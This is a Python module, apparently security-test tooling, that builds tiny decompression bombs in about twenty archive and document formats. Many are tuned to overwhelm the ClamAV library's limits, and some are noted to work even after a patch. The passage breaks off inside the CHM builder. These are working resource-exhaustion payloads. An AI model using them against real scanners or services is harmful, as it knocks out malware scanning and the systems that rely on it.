"""bombs -- decompression bombs built in well under a second (no gigabyte is ever compressed)."""
import bz2
import functools
import lzma
import zlib

_BZ_BLOCK_ZEROS = 179996 * 255      # zeros whose RLE1 form fills one 900 kB bzip2 block exactly
_BZ_END = 0x177245385090


def _bits(data):
    return "".join(f"{b:08b}" for b in data)


@functools.lru_cache(maxsize=None)
def _bz_block():
    """(bits of one bzip2 block of zeros, its CRC, bytes it expands to)."""
    s = _bits(bz2.compress(bytes(_BZ_BLOCK_ZEROS), 9))
    for pad in range(8):
        end = len(s) - pad - 80
        if int(s[end:end + 48], 2) == _BZ_END:
            block = s[32:end]
            assert int(block[:48], 2) == 0x314159265359
            return block, int(block[48:80], 2), _BZ_BLOCK_ZEROS
    raise AssertionError("no bzip2 end marker")


def bzip2_bomb(size):
    """One bzip2 stream expanding to at least size zero bytes (about 35 bytes per 44 MiB)."""
    block, crc, per = _bz_block()
    n = max(1, -(-size // per))
    combined = 0
    for _ in range(n):
        combined = ((combined << 1) | (combined >> 31)) & 0xFFFFFFFF
        combined ^= crc
    s = _bits(b"BZh9") + block * n + f"{_BZ_END:048b}" + f"{combined:032b}"
    s += "0" * (-len(s) % 8)
    return int(s, 2).to_bytes(len(s) // 8, "big")


_CHUNK = 1 << 24


@functools.lru_cache(maxsize=None)
def _deflate_chunk():
    """Raw deflate of _CHUNK zeros ending in a full flush: it does not refer back, so copies of it
    in a row are a valid stream of that many chunks."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    c.compress(bytes(_CHUNK))
    c.flush(zlib.Z_FULL_FLUSH)
    chunk = c.compress(bytes(_CHUNK)) + c.flush(zlib.Z_FULL_FLUSH)
    return chunk, c.flush()


def deflate_bomb(size):
    """(raw deflate stream, bytes it expands to: size rounded up to 16 MiB)."""
    chunk, end = _deflate_chunk()
    n = max(1, -(-size // _CHUNK))
    return chunk * n + end, n * _CHUNK


def gzip_bomb(size):
    """A gzip member of zero bytes (about 1 KB per MiB: deflate's limit is 1032:1)."""
    import struct
    data, size = deflate_bomb(size)
    return (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + data +
            struct.pack("<II", _zeros_crc(size), size & 0xFFFFFFFF))


_LZMA2_CHUNK = 1 << 20    # bytes in one LZMA2 chunk (the encoder splits 2 MiB in two)


@functools.lru_cache(maxsize=None)
def _lzma2_chunk():
    """One raw LZMA2 chunk of 1 MiB zeros that resets the dictionary: copies of it in a row are a
    valid LZMA2 stream."""
    raw = lzma.compress(bytes(_LZMA2_CHUNK), lzma.FORMAT_RAW,
                        filters=[{"id": lzma.FILTER_LZMA2, "preset": 0, "dict_size": 1 << 20}])
    # control (dictionary reset, new properties), unpacked - 1, packed - 1, properties, data, end
    assert raw[0] & 0xE0 == 0xE0 and len(raw) == 6 + (raw[3] << 8 | raw[4]) + 1 + 1, raw[:6]
    return raw[:-1]


def _varint(n):
    out = bytearray()
    while True:
        out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
        n >>= 7
        if not n:
            return bytes(out)


def xz_bomb(size):
    """One .xz stream (one block, no check) of zero bytes: size rounded up to 1 MiB."""
    import struct
    n = max(1, -(-size // _LZMA2_CHUNK))
    data = _lzma2_chunk() * n + b"\x00"
    flags = b"\x00\x00"
    header = b"\xfd7zXZ\x00" + flags + struct.pack("<I", zlib.crc32(flags))
    bh = b"\x02\x00\x21\x01\x10\x00\x00\x00"     # 12 bytes, LZMA2, dictionary 1 MiB
    bh += struct.pack("<I", zlib.crc32(bh))
    block = bh + data + bytes(-len(data) % 4)
    index = b"\x00" + _varint(1) + _varint(len(bh) + len(data)) + _varint(n * _LZMA2_CHUNK)
    index += bytes(-len(index) % 4)
    index += struct.pack("<I", zlib.crc32(index))
    back = struct.pack("<I", len(index) // 4 - 1) + flags
    footer = struct.pack("<I", zlib.crc32(back)) + back + b"YZ"
    return header + block + index + footer


def _zeros_crc(size, chunk=1 << 24):
    crc, zero = 0, bytes(chunk)
    while size > 0:
        crc = zlib.crc32(zero[:min(chunk, size)], crc)
        size -= chunk
    return crc


def zip_bomb(size, method="bzip2"):
    """A zip of one member of size zero bytes, stored with method (bzip2: 12, deflate: 8) without a
    data descriptor: libclamav's unz() unpacks it in one loop."""
    import struct
    if method == "bzip2":
        data, code = bzip2_bomb(size), 12
        size = -(-size // _BZ_BLOCK_ZEROS) * _BZ_BLOCK_ZEROS
    else:
        (data, size), code = deflate_bomb(size), 8
    crc, name = _zeros_crc(size), b"zeros"
    local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 46, 0, code, 0, 0, crc, len(data),
                        min(size, 0xFFFFFFFF), len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 46, 46, 0, code, 0, 0, crc,
                          len(data), min(size, 0xFFFFFFFF), len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, len(central),
                      len(local) + len(data), 0)
    return local + data + central + end


# Other formats (patch 0133): each a few bytes to ~2 MB, built without compressing a gigabyte.

def cab_bomb(size):
    """A cabinet of one file of size zero bytes (rounded up to 32 KiB, at most 2 GiB) in one MSZIP
    folder: CFDATA blocks of 32 KiB each (no checksums), about 1.7 MB per GiB."""
    import struct
    n = -(-size // 32768)
    assert n <= 0xFFFF
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    blk = b"CK" + c.compress(bytes(32768)) + c.flush()
    data = struct.pack("<IHH", 0, len(blk), 32768) + blk
    name = b"zeros\0"
    first = 36 + 8 + 16 + len(name)
    head = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, first + len(data) * n, 0, 44, 0, 3, 1, 1, 1, 0,
                       0x1234, 0)
    folder = struct.pack("<IHH", first, n, 1)            # 1: MSZIP
    member = struct.pack("<IIHHHH", n * 32768, 0, 0, 0, 0, 0x20) + name
    return head + folder + member + data * n


def _arj_header(fixed, name):
    import struct
    basic = fixed + name + b"\0\0"                       # name, empty comment
    return b"\x60\xea" + struct.pack("<H", len(basic)) + basic + struct.pack("<I", zlib.crc32(basic)) + b"\0\0"


def arj_bomb(size):
    """An ARJ archive (101 bytes) of one method-4 member of size bytes without compressed data:
    unarj's bit reader gives zeros past a member's data, which method 4 decodes to zero bytes."""
    import struct
    main = struct.pack("<8B4I3H", 30, 11, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0)
    member = struct.pack("<8B4I3H", 30, 11, 1, 0, 0, 4, 0, 0, 0, 0, size, 0, 0, 0, 0)
    return _arj_header(main, b"bomb.arj") + _arj_header(member, b"zeros") + b"\x60\xea\0\0"


def egg_bomb(size, declared=4096):
    """An EGG archive of one file whose one deflate block expands to size zeros (rounded up to 16 MiB);
    its headers say `declared` bytes (what libclamav checks against its limits first)."""
    import struct
    data, _ = deflate_bomb(size)
    eof = struct.pack("<I", 0x08E28222)
    return (struct.pack("<IHII", 0x41474745, 0x0100, 0x12345678, 0) + eof +
            struct.pack("<IIQ", 0x0A8590E3, 0, declared) +
            struct.pack("<IBH", 0x0A8591AC, 0, 5) + b"zeros" + eof +
            struct.pack("<IBBIII", 0x02B50C13, 1, 0, declared, len(data), 0) + eof + data + eof)


def xar_bomb(size):
    """A xar archive of one file whose zlib ("application/x-gzip") data is size zeros (16 MiB steps)."""
    import struct
    data, size = deflate_bomb(size)
    z = b"\x78\x9c" + data
    toc = (b'<?xml version="1.0" encoding="UTF-8"?>\n<xar><toc><file id="1"><data><length>%d</length>'
           b'<offset>0</offset><size>%d</size><encoding style="application/x-gzip"/></data>'
           b'<name>zeros</name><type>file</type></file></toc></xar>\n' % (len(z), size))
    ztoc = zlib.compress(toc)
    return struct.pack(">IHHQQI", 0x78617221, 28, 1, len(ztoc), len(toc), 0) + ztoc + z


@functools.lru_cache(maxsize=None)
def nsis_bomb(size, solid=True):
    """An "MZ" file holding an NSIS archive (zlib: raw deflate) of a 16-byte header block and one file
    of size zero bytes: solid (one stream, each item after its size) or not (each item its own
    stream). NSIS's inflate takes no stored block, so this one compresses the zeros (level 1: about
    0.4 s and 1.1 MB per 256 MiB)."""
    import struct
    zero = bytes(min(size, _CHUNK))

    def deflate(head, n):
        c = zlib.compressobj(1, zlib.DEFLATED, -15)
        out = [c.compress(head)]
        while n > 0:
            out.append(c.compress(zero[:min(n, len(zero))]))
            n -= len(zero)
        return b"".join(out) + c.flush()
    if solid:
        data = deflate(struct.pack("<I", 16) + bytes(16) + struct.pack("<I", size), size)
    else:
        items = [deflate(bytes(16), 0), deflate(b"", size)]
        data = b"".join(struct.pack("<I", 0x80000000 | len(i)) + i for i in items)
    first = struct.pack("<II", 0, 0xDEADBEEF) + b"NullsoftInst" + struct.pack("<II", 0x1c, 0x1c + len(data))
    return b"MZ" + bytes(62) + first + data


def pdf_bomb(size):
    """A PDF of one FlateDecode stream of size zeros (16 MiB steps)."""
    data, _ = deflate_bomb(size)
    z = b"\x78\x9c" + data
    body = (b"%PDF-1.4\n1 0 obj\n<< /Length " + str(len(z)).encode() + b" /Filter /FlateDecode >>\nstream\n" +
            z + b"\nendstream\nendobj\n")
    return (body + b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<< /Size 2 >>\n"
            b"startxref\n" + str(len(body)).encode() + b"\n%%EOF\n")


def dmg_bomb(size):
    """A DMG (1.7 KB) of one partition: one stored sector, then size zero bytes (512-byte steps) in
    one zero-fill stripe, which takes no input at all."""
    import base64
    import struct
    sectors = size // 512
    mish = struct.pack(">IIQQQII24s136sI", 0x6d697368, 1, 0, sectors + 1, 0, 0, 0, bytes(24), bytes(136), 3)
    mish += struct.pack(">IIQQQQ", 1, 0, 0, 1, 0, 512)                   # stored
    mish += struct.pack(">IIQQQQ", 2, 0, 1, sectors, 0, 0)               # zero fill
    mish += struct.pack(">IIQQQQ", 0xFFFFFFFF, 0, sectors + 1, 0, 0, 0)  # end
    xml = (b'<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict><key>resource-fork</key>'
           b'<dict><key>blkx</key><array><dict><key>Attributes</key><string>0x0050</string>'
           b'<key>Data</key><data>' + base64.b64encode(mish) + b'</data><key>Name</key><string>z</string>'
           b'</dict></array></dict></dict></plist>\n')
    koly = struct.pack(">4sIII", b"koly", 4, 512, 1) + bytes(8 * 5 + 8 + 16 + 136) + struct.pack(">QQ", 512, len(xml))
    return b"\x01" * 512 + xml + koly + bytes(512 - len(koly))


# Formats whose loops a reading judged bounded (issue 20 item 3's rest): HFS+, AutoIt, SIS,
# InstallShield, OLE2, UDF, CHM and CAB's LZX and Quantum. Each is the worst input found for it.

def _dmg(image):
    """A DMG of one partition stored whole (a raw-copy stripe): libclamav scans it as a partition
    (HFS+ is looked for only there)."""
    import base64
    import struct
    image += bytes(-len(image) % 512)
    sectors = len(image) // 512
    mish = struct.pack(">IIQQQII24s136sI", 0x6d697368, 1, 0, sectors, 0, 0, 0, bytes(24), bytes(136), 2)
    mish += struct.pack(">IIQQQQ", 1, 0, 0, sectors, 0, len(image))          # stored
    mish += struct.pack(">IIQQQQ", 0xFFFFFFFF, 0, sectors, 0, 0, 0)          # end
    xml = (b'<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict><key>resource-fork</key>'
           b'<dict><key>blkx</key><array><dict><key>Attributes</key><string>0x0050</string>'
           b'<key>Data</key><data>' + base64.b64encode(mish) + b'</data><key>Name</key><string>hfs</string>'
           b'</dict></array></dict></dict></plist>\n')
    koly = struct.pack(">4sIII", b"koly", 4, 512, 1) + bytes(8 * 5 + 8 + 16 + 136)
    koly += struct.pack(">QQ", len(image), len(xml))
    return image + xml + koly + bytes(512 - len(koly))


def _hfs_node(kind, height, records, size=4096, flink=0):
    """One B-tree node: descriptor, records, and their offsets from the node's end."""
    import struct
    body, offs = bytearray(struct.pack(">IIbBHH", flink, 0, kind, height, len(records), 0)), []
    for r in records:
        offs.append(len(body))
        body += r + bytes(len(r) % 2)
    offs.append(len(body))
    assert len(body) + 2 * len(offs) <= size
    tail = b"".join(struct.pack(">H", o) for o in reversed(offs))
    return bytes(body) + bytes(size - len(body) - len(tail)) + tail


def _hfs_header_node(node_size, max_key, total_nodes):
    import struct
    head = struct.pack(">HIIIIHHII", 1, 1, 1, 1, 1, node_size, max_key, total_nodes, 0)
    head += bytes(106 - len(head))
    return _hfs_node(1, 0, [head, bytes(128), bytes(node_size - 256 - 14 - 8 - 20)], node_size)


def _hfs_fork(size, start, count):
    import struct
    return struct.pack(">QII", size, 0, count) + struct.pack(">II", start, count) + bytes(56)


def hfsplus_bomb(size, repeat=None):
    """A DMG holding an HFS+ volume (about 30 KB) of one file compressed into its resource fork
    (decmpfs type 4): its block table names one zlib block of 16 MiB of zeros `repeat` times
    (default: enough for size). libclamav inflates every block of the table, whatever the decmpfs
    header says, with no limit looked at (stock and through patch 0133)."""
    import struct
    bs = 4096
    chunk, end = _deflate_chunk()
    block = b"\x78\x9c" + chunk + end            # zlib: the first byte's low nibble is not 0xf
    n = repeat or max(1, -(-size // _CHUNK))
    table = struct.pack("<I", n) + struct.pack("<II", 4 + 8 * n, len(block)) * n
    data = table + block
    cmpf = struct.pack(">I", len(data)) + data
    rmap = bytes(16) + struct.pack(">IHHHHh", 0, 0, 0, 0, 0, 0)
    rmap += b"cmpf" + struct.pack(">HH", 0, 0) + struct.pack(">HhB3sI", 0, -1, 0, b"\0\0\0", 0)
    rsrc = struct.pack(">IIII", 256, 256 + len(cmpf), len(cmpf), len(rmap)) + bytes(240) + cmpf + rmap
    rsrc += bytes(-len(rsrc) % bs)
    rblocks = len(rsrc) // bs
    total = 6 + rblocks
    fid = 16
    name = "bomb".encode("utf-16-be")
    key = struct.pack(">HIH", 6 + len(name), 2, len(name) // 2) + name
    perms = struct.pack(">IIBBHI", 0, 0, 0, 0, 0o100644, 0)
    filerec = (struct.pack(">hHII", 2, 0, 0, fid) + bytes(20) + perms + bytes(32) + bytes(8) +
               _hfs_fork(0, 0, 0) + _hfs_fork(len(rsrc), 6, rblocks))
    assert len(filerec) == 248
    aname = "com.apple.decmpfs".encode("utf-16-be")
    decmpfs = struct.pack("<4sIQ", b"fpmc", 4, n * _CHUNK)
    akey = struct.pack(">HHIIH", 12 + len(aname), 0, fid, 0, len(aname) // 2) + aname
    arec = akey + struct.pack(">IIII", 0x10, 0, 0, len(decmpfs)) + decmpfs
    vh = struct.pack(">HHIIIIIIIIIIIIIIIIIQ", 0x482B, 4, 1 << 8, 0, 0, 0, 0, 0, 0, 1, 0, bs, total,
                     0, 0, 0, 0, fid + 1, 0, 0) + bytes(32)
    vh += _hfs_fork(0, 0, 0) + _hfs_fork(bs, 1, 1) + _hfs_fork(2 * bs, 2, 2)
    vh += _hfs_fork(2 * bs, 4, 2) + _hfs_fork(0, 0, 0)
    image = (bytes(1024) + vh + bytes(bs - 1024 - len(vh)) +
             _hfs_header_node(bs, 10, 1) +
             _hfs_header_node(bs, 516, 2) + _hfs_node(-1, 1, [key + filerec]) +
             _hfs_header_node(bs, 266, 2) + _hfs_node(-1, 1, [arec]) + rsrc)
    assert len(image) == total * bs
    return _dmg(image)


def _zlib_zeros(size):
    """(zlib stream of size zero bytes rounded up to 16 MiB, with its Adler-32, that size)."""
    import struct
    data, size = deflate_bomb(size)
    return b"\x78\x9c" + data + struct.pack(">I", (size % 65521) << 16 | 1), size


def ishield_msi_bomb(size, files=1):
    """An "MZ" file holding an InstallShield MSI archive (about 1 KB per MiB) of `files` zlib
    streams of size zeros each (16 MiB steps): libclamav inflates each to MaxFileSize (1 GiB) before
    it looks at anything else (stock and through patch 0133)."""
    import struct
    data, _ = _zlib_zeros(size)
    key = 0x61 ^ 0xEC                                  # the name "a" xored with the format's key
    table = bytes(((((c ^ key) & 0xF) << 4) | ((c ^ key) >> 4)) for c in range(256))
    data = data.translate(table)                       # stored nibble-swapped, then xored
    fb = b"a".ljust(260, b"\0") + struct.pack("<IIQII", 6, 0, len(data), 0, 1) + bytes(28)
    head = b"InstallShield\0" + struct.pack("<II", files, 0) + bytes(24)
    return b"MZ" + bytes(62) + head + (fb + data) * files


def _mt_stream(seed, n):
    """n bytes of AutoIt's keystream: bits 1-8 of MT19937's outputs seeded with seed."""
    import random
    mt = [seed & 0xFFFFFFFF]
    for i in range(1, 624):
        mt.append((i + 0x6c078965 * ((mt[-1] >> 30) ^ mt[-1])) & 0xFFFFFFFF)
    r = random.Random()
    r.setstate((3, tuple(mt) + (624,), None))
    words = (r.getrandbits(32 * n) >> 1).to_bytes(4 * n, "little")
    return words[::4]


def _xor(a, b):
    return (int.from_bytes(a, "little") ^ int.from_bytes(b, "little")).to_bytes(len(a), "little")


def autoit_bomb(size):
    """An "MZ" file holding an AutoIt EA05 script of size bytes: one literal, then one match of
    the rest repeating it (255 output bytes per input byte: 4.2 MB per GiB; size at most 1 GiB,
    MaxFileSize, as libclamav checks the declared size first)."""
    import struct
    out = size - 1
    k, v = divmod(out - 3 - 296, 255)
    bits = "0" + "01000001"                            # a literal "A"
    bits += "1" + f"{1:015b}" + "11" + "111" + "11111" + "11111111"
    bits += "11111111" * k + f"{v:08b}"
    bits += "0" * (-len(bits) % 16)
    stream = b"EA05" + struct.pack(">I", size) + int(bits, 2).to_bytes(len(bits) // 8, "big")
    data = _xor(stream, _mt_stream(0x22af, len(stream)))       # seed 0x22af + the sum of 16 zeros
    member = (struct.pack("<II", 0xceb06dff, 0 ^ 0x29bc) + struct.pack("<I", 0 ^ 0x29ac) +
              struct.pack("<BIII", 1, len(data) ^ 0x45aa, size ^ 0x45aa, 0 ^ 0xc3d2) + bytes(16))
    head = bytes.fromhex("a3484bbe986c4aa9994c530a86d6487d") + b"AU3!EA05" + bytes(16)
    return b"MZ" + bytes(62) + head + member + data


def sis_bomb(size, files=4):
    """An old-format SIS package of `files` file records all naming one zlib stream of size zeros
    (16 MiB steps; 1 KB per MiB) and declaring that size: libclamav uncompresses each record in one
    zlib call once the declared size passes the limits."""
    import struct
    data, size = _zlib_zeros(size)
    head_end = 16 + 68
    plangs, pfiles = head_end, head_end + 2
    rec = struct.pack("<10I", 0, 0, 0, 0, 0, 0, 0, len(data), 0, size) + bytes(8)
    ptr = pfiles + len(rec) * files
    rec = struct.pack("<10I", 0, 0, 0, 0, 0, 0, 0, len(data), ptr, size) + bytes(8)
    uids = struct.pack("<IIII", 0x10000000, 0, 0x10000419, 0)
    hdr = struct.pack("<8HIHHHHI9I", 0, 1, files, 0, 1, files, 0, 0, 200, 0, 0, 0, 0, 0,
                      plangs, pfiles, 0, 0, 0, 0, 0, 0, 0)
    assert len(hdr) == 68
    return uids + hdr + struct.pack("<H", 1) + rec * files + data


def _udf_tag(tag_id):
    import struct
    return struct.pack("<HHBBHHHI", tag_id, 2, 0, 0, 0, 0, 0, 0)


def udf_bomb(data_size=1 << 19, files=None):
    """A UDF image (libclamav's reader: descriptors one after another from 32 KiB) of `files` file
    entries that all name one extent of data_size zero bytes (default: as many as fill as much
    space as the data: about 2300 x 512 KiB, 1.15 GB from 1 MiB). Each is written out and scanned
    whole: the work is quadratic in the input, bounded per file by the input's size."""
    import struct
    vd = 2048
    n = files or data_size // (vd // 51 + vd // 11)
    out = bytearray(32768)
    for ident in (b"BEA01", b"NSR02", b"TEA01"):
        out += (b"\0" + ident + b"\x01").ljust(vd, b"\0")
    for tag in (1, 4, 6, 5, 7, 8, 9, 8, 2, 256):
        d = bytearray(_udf_tag(tag).ljust(vd, b"\0"))
        if tag == 6:
            struct.pack_into("<I", d, 16 + 4 + 64 + 128, vd)          # logicalBlockSize
        out += d
    fid = (_udf_tag(257) + struct.pack("<HBB", 1, 0, 0) + bytes(16) + struct.pack("<H", 0)).ljust(40, b"\0")
    fe_blocks = -(-n // 11)
    fid_blocks = -(-n // 51)
    start = len(out) // vd + fid_blocks + fe_blocks + 1          # the data's block
    fe = bytearray(176)
    fe[:16] = _udf_tag(261)
    struct.pack_into("<II", fe, 168, 0, 8)                       # no extended attributes, one short_ad
    fe = bytes(fe) + struct.pack("<II", data_size, 0)
    for i in range(fid_blocks):
        out += (fid * min(51, n - 51 * i)).ljust(vd, b"\0")
    for i in range(fe_blocks):
        out += (fe * min(11, n - 11 * i)).ljust(vd, b"\0")
    out += _udf_tag(2).ljust(vd, b"\0")                          # any other descriptor: extract
    assert len(out) == start * vd
    # The partition starts at the data (partitionStartingLocation, in logical blocks).
    pd = 32768 + 3 * vd + 3 * vd
    struct.pack_into("<I", out, pd + 16 + 4 + 2 + 2 + 32 + 128 + 4, start)
    return bytes(out) + bytes(data_size)


def ole2_bomb(entries=1 << 15):
    """An OLE2 file (128 bytes an entry: 4 MiB for 32768) whose directory is a chain of `entries`
    empty storages (each the next one's sibling). libclamav's walk looks every entry up by following
    the directory's sector chain from its start (entries^2/8 FAT lookups a pass, two passes), and
    looks at the time only where it writes a stream out: none here."""
    import struct
    per_fat = 128
    dirs = -(-entries // 4)
    fats = -(-(dirs + 8) // (per_fat - 1)) + 1
    assert fats <= 109
    fat = [0xFFFFFFFD] * fats + [fats + i + 1 for i in range(dirs - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (fats * per_fat - len(fat))
    head = (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) +
            struct.pack("<HHHHH6sIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, bytes(6), 0, fats, fats, 0, 4096,
                        0xFFFFFFFE, 0, 0xFFFFFFFE, 0))
    head += b"".join(struct.pack("<I", i) for i in range(fats)) + b"\xff\xff\xff\xff" * (109 - fats)
    assert len(head) == 512

    def entry(name, kind, nxt, child):
        n = (name + "\0").encode("utf-16-le")
        return (n.ljust(64, b"\0") + struct.pack("<HBBIII", len(n), kind, 1, 0xFFFFFFFF, nxt, child) +
                bytes(36) + struct.pack("<III", 0xFFFFFFFE, 0, 0))
    storage = [entry("A", 1, i + 1, 0xFFFFFFFF) for i in range(1, entries - 1)]
    d = entry("Root Entry", 5, 0xFFFFFFFF, 1) + b"".join(storage) + entry("A", 1, 0xFFFFFFFF, 0xFFFFFFFF)
    d += bytes(-len(d) % 512)
    return head + struct.pack(f"<{len(fat)}I", *fat) + d


def ole2_ministream_bomb(sectors=7000):
    """An OLE2 file whose mini stream (the root entry's chain: `sectors` sectors, 3.5 MB for 7000)
    holds streams of 63 small blocks each (888 for 7000), 3.9 MB in all. libclamav read each small
    block by following the mini stream's chain from its start (k / 8 FAT lookups for block k) and
    the SBAT's (k / 128): about 4 * sectors^2 lookups; the handlers look at the time per stream."""
    import struct
    streams = sectors * 8 // 63
    sbat_secs = -(-sectors * 8 // 128)
    dirs = -(-(streams + 1) // 4)
    body = sectors + sbat_secs + dirs
    fats = 1
    while fats * 128 < fats + body:
        fats += 1
    assert fats <= 109
    end, free = 0xFFFFFFFE, 0xFFFFFFFF
    mini0, sbat0, dir0 = fats, fats + sectors, fats + sectors + sbat_secs
    fat = [0xFFFFFFFD] * fats + [free] * (128 * fats - fats)
    for start, count in ((mini0, sectors), (sbat0, sbat_secs), (dir0, dirs)):
        for i in range(count):
            fat[start + i] = start + i + 1 if i + 1 < count else end
    sbat = [free] * (128 * sbat_secs)
    for b in range(streams * 63):
        sbat[b] = b + 1 if b % 63 < 62 else end

    def entry(name, kind, nxt, child, start, size):
        n = (name + "\0").encode("utf-16-le")
        return (n.ljust(64, b"\0") + struct.pack("<HBBIII", len(n), kind, 1, free, nxt, child) + bytes(36) +
                struct.pack("<III", start, size, 0))
    d = entry("Root Entry", 5, free, 1, mini0, sectors * 512)
    d += b"".join(entry("S%d" % k, 2, k + 1 if k < streams else free, free, (k - 1) * 63, 63 * 64)
                  for k in range(1, streams + 1))
    d += bytes(-len(d) % 512)
    head = (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) +
            struct.pack("<HHHHH6sIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, bytes(6), 0, fats, dir0, 0, 4096, sbat0,
                        sbat_secs, end, 0))
    head += struct.pack("<109I", *(list(range(fats)) + [free] * (109 - fats)))
    return (head + struct.pack(f"<{len(fat)}I", *fat) + bytes(sectors * 512) +
            struct.pack(f"<{len(sbat)}I", *sbat) + d)


def _cab(blocks, method, size):
    """A cabinet of one file of size bytes in one folder of the given method whose CFDATA blocks
    (no checksums) hold blocks, each declaring 32 KiB of output (the last the rest)."""
    import struct
    assert len(blocks) <= 0xFFFF
    name = b"zeros\0"
    first = 36 + 8 + 16 + len(name)
    data = b"".join(struct.pack("<IHH", 0, len(b), min(32768, size - 32768 * i)) + b
                    for i, b in enumerate(blocks))
    head = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, first + len(data), 0, 44, 0, 3, 1, 1, 1, 0,
                       0x1234, 0)
    folder = struct.pack("<IHH", first, len(blocks), method)
    member = struct.pack("<IIHHHH", size, 0, 0, 0, 0, 0x20) + name
    return head + folder + member + data


def _huff(lengths):
    """Canonical Huffman codes (bit strings) of {symbol: length}, as libmspack builds them."""
    code, out, prev = 0, {}, 0
    for sym, n in sorted(lengths.items(), key=lambda x: (x[1], x[0])):
        code <<= n - prev
        prev = n
        out[sym] = f"{code:0{n}b}"
        code += 1
    return out


_PRE = _huff({0: 2, 17: 2, 18: 2, 15: 3, 16: 3})


def _lzx_lens(lens, prev):
    """LZX's encoding of a tree's lengths (all of them, delta-coded against prev): the pretree,
    then one pretree symbol per length (runs of zeros as 17/18)."""
    bits = "".join(f"{(2 if s in (0, 17, 18) else 3 if s in (15, 16) else 0):04b}" for s in range(20))
    i = 0
    while i < len(lens):
        run = 0
        while i + run < len(lens) and lens[i + run] == 0 and run < 51:
            run += 1
        if run >= 20:
            bits += _PRE[18] + f"{run - 20:05b}"
        elif run >= 4:
            bits += _PRE[17] + f"{run - 4:04b}"
        else:
            run = 1
            bits += _PRE[(prev[i] - lens[i]) % 17]
        i += run
    return bits


def _lzx_frames(frames, reset=False):
    """The LZX frames (window 32 KiB) of frames x 32 KiB zero bytes, each aligned as LZX ends a
    frame: hand-made verbatim blocks of 511 frames whose only symbols are the literal 0 and a
    match at the last offset, 2 bits per 257 bytes (34 bytes a frame). reset: the decoder resets
    at every block (CHM's reset interval), so each block is coded as the first."""
    offsets = 30 << 3                                  # position slots of a 2^15 window, x 8
    main = [0] * (256 + offsets)
    main[0] = main[256 + 7] = 1                        # the literal 0; slot 0 (R0), length from the tree
    length = [0] * 249
    length[119] = length[120] = 2                      # footers of matches of 128 and 129 bytes
    length[248] = 1                                    # of 257 bytes
    mcode, lcode = _huff({0: 1, 263: 1}), _huff({119: 2, 120: 2, 248: 1})
    per_block = 511                                    # frames a block (its length is 24 bits)
    match = {n: mcode[263] + lcode[n - 9] for n in (128, 129, 257)}
    body = match[257] * 127 + match[129]

    def pack(bits):
        bits += "0" * (-len(bits) % 16)
        return b"".join(int(bits[i:i + 16], 2).to_bytes(2, "little") for i in range(0, len(bits), 16))
    prev_main, prev_len = [0] * len(main), [0] * len(length)
    blocks = []
    plain = pack(body)
    for f in range(frames):
        first = f == 0 or (reset and f % per_block == 0)
        bits = "0" if first else ""                    # no E8 translation
        if f % per_block == 0:
            if reset:
                prev_main, prev_len = [0] * len(main), [0] * len(length)
            n = min(per_block, frames - f) * 32768
            bits += "001" + f"{n:024b}"                # a verbatim block
            bits += _lzx_lens(main[:256], prev_main[:256]) + _lzx_lens(main[256:], prev_main[256:])
            bits += _lzx_lens(length, prev_len)
            prev_main, prev_len = main, length
            bits += (mcode[0] + match[257] * 127 + match[128]) if first else body
            blocks.append(pack(bits))
        else:
            blocks.append(plain)
    return blocks


def lzx_cab_bomb(size):
    """A cabinet of one LZX file (window 32 KiB) of size zero bytes (32 KiB steps, at most 2 GiB),
    one CFDATA block a frame: about 1.4 MB per GiB."""
    frames = -(-size // 32768)
    return _cab(_lzx_frames(frames), 0x0003 | (15 << 8), frames * 32768)


def _encint(n):
    out = [n & 0x7F]
    while n > 0x7F:
        n >>= 7
        out.append(0x80 | (n & 0x7F))
    return bytes(reversed(out))


def chm_bomb(size):
    """A CHM (ITSF 3, one PMGL chunk) of one file of size zero bytes (32 KiB steps) in its LZX
    section (the frames of lzx_cab_bomb, the decoder reset every 511 frames): about 1.1 MB per GiB.
    libclamav extracts it through libmspack's callbacks, as CAB's."""
    import struct
    frames = -(-size // 32768)
    size = frames * 32768
    content = b"".join(_lzx_frames(frames, reset=True))
    control = struct.pack("<I4sIIIII", 6, b"LZXC", 2, 511, 1, 1, 0)      # interval, window: frames
    span = struct.pack("<Q", size)
    ms = "::DataSpace/Storage/MSCompressed/"
    entries = [("/zeros", 1, 0, size), (ms + "Content", 0, 36, len(content)),
               (ms + "ControlData", 0, 0, len(control)), (ms + "SpanInfo", 0, 28, len(span))]
    body = b"".join(_encint(len(n)) + n.encode() + _encint(s) + _encint(o) + _encint(n_)
                    for n, s, o, n_ in entries)
    chunk = b"PMGL" + struct.pack("<IIii", 2, 0, -1, -1) + body
    chunk += bytes(4096 - 2 - len(chunk)) + struct.pack("<H", len(entries))
    guid = bytes.fromhex("6a92025d2e21d011 9df900a0c922e6ec".replace(" ", ""))
    itsp = (b"ITSP" + struct.pack("<IIIIIIiIIiII", 1, 0x54, 10, 4096, 2, 1, -1, 0, 0, -1, 1, 0x409) +
            guid + struct.pack("<Iiii", 0x54, -1, -1, -1))
    assert len(itsp) == 0x54
    cs0 = 0x60 + 0x18 + 0x54 + 4096
    total = cs0 + 36 + len(content)
    hs0 = struct.pack("<IIQII", 0x1FE, 0, total, 0, 0)
    guids = bytes.fromhex("10fd017caa7bd0119e0c00a0c922e6ec11fd017caa7bd0119e0c00a0c922e6ec")
    itsf = (b"ITSF" + struct.pack("<IIIII", 3, 0x60, 1, 0, 0x409) + guids +
